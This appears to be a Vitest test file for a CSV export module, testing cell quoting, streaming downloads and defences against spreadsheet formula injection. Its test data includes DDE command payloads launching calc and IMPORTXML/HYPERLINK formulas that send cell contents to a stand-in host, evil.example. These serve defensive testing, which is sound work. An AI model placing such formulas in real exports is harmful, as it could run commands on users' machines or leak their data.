import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { expect, it } from "vitest";
import { cellText, csvDownload, csvLine } from "@/lib/platform/files/csv";

it("quotes texts, doubles their quotes, and does not change numbers and empty values", () => {
  expect(csvLine(["a", 'say "hi"', "a,b;c\nd", 5, -5, null, ""])).toBe('"a","say ""hi""","a,b;c\nd",5,-5,,""\r\n');
});

it.each([
  ["=1+1"],
  ["+1"],
  ["-1"],
  ["@SUM(A1)"],
  ["\t=1"],
  ["\r=1"],
  ["\n=1"],
  ["\tharmless"],
  ["  =1+1"],
  ["\u00a0=1"],
  ["＝1+1"],
  ["＋1"],
  ["－1"],
  ["＠a"],
  ["﹦1"],
  ["﹢1"],
  ["﹣1"],
  ["﹫a"],
  ["−1"],
  ["\u3000=1"],
  ["\ufeff=1"],
  ["\u200b=1"],
  ["\u202e=1"],
  ["\0=1"],
  ["\u001f+1"],
  [" \n\t =1"],
  ["=cmd|' /C calc'!A0"],
  ["+cmd|' /C calc'!A0"],
  ["-2+3+cmd|' /C calc'!A0"],
  ["@SUM(1+1)*cmd|' /C calc'!A0"],
  ['=1","=2'],
  ["=1;=2"],
  ["=1\r\n=2"],
  ['=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")'],
  ['=DDE("cmd";"/C calc";"A0")'],
  ['=HYPERLINK("https://evil.example/?"&A1,"click")'],
])("prevents a spreadsheet from calculating %j", (text) => {
  expect(csvLine([text])).toBe(`"'${text.replaceAll('"', '""')}"\r\n`);
});

it.each(["a=1", "1-1", "5 − 3", "1\n=1", "Ä＝", "ada@example.com", "'tis", " text"])("does not change %j", (text) => {
  expect(csvLine([text])).toBe(`"${text}"\r\n`);
});

it("is used for every CSV file, because no other code sends one", () => {
  const sources = ["app", "components", "lib", "server"].flatMap((folder) =>
    readdirSync(folder, { recursive: true, encoding: "utf8" }).map((path) => join(folder, path)),
  );
  const mentioning = (words: RegExp) =>
    sources.filter((path) => /\.tsx?$/.test(path) && words.test(readFileSync(path, "utf8"))).sort();
  expect(mentioning(/text\/csv;/)).toEqual(["lib/platform/files/download.ts"]);
  // Files that only send lines, which other processes make, are listed first; then the files that make lines.
  expect(mentioning(/contentTypes\.csv/)).toEqual([
    "app/dashboard/import/[id]/left/route.ts",
    "lib/platform/files/csv.ts",
    "lib/resources/exports/file.ts",
  ]);
  expect(mentioning(/import .*\bcsvLines?\b/)).toEqual([
    "lib/resources/exports/lines.ts",
    "lib/resources/imports/leftovers.ts",
  ]);
});

it.each(["=1", "'=1", "''\t1", "'tis", "plain"])("reads %j back unchanged", (text) => {
  const [, cell = ""] = /^"(.*)"\r\n$/s.exec(csvLine([text])) ?? [];
  expect(cellText(cell)).toBe(text);
});

it("sends the file while rows are read, and stops reading when the client leaves", async () => {
  let read = 0;
  async function* rows() {
    for (;;) {
      read++;
      yield ["x".repeat(1000), read];
    }
  }
  const file = csvDownload("Été; a.csv", ["Text", "Number"], rows);
  const response = await file.answer(new Request("http://localhost"));
  expect(response.headers.get("content-disposition")).toBe("attachment; filename*=UTF-8''%C3%89t%C3%A9%3B%20a.csv");
  const reader = (response.body as ReadableStream<Uint8Array>).getReader();
  const first = await reader.read();
  expect(Buffer.from(first.value ?? []).toString()).toMatch(/^\uFEFF"Text","Number"\r\n"x{1000}",1\r\n/);
  await reader.cancel();
  const before = read;
  await new Promise((done) => setImmediate(done));
  expect([read, before < 500]).toEqual([before, true]);
});
